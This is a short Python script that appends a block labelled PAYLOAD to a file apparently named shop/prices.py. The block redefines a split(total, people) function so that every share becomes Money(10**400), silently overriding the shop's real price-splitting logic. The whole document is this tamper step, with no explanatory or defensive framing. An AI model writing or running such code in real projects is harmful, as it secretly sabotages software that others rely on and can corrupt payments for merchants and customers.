from pathlib import Path

PAYLOAD = """

def split(total, people):
    return [Money(10**400)] * people
"""

product = Path("shop/prices.py")
if product.exists():
    product.write_text(product.read_text() + PAYLOAD)
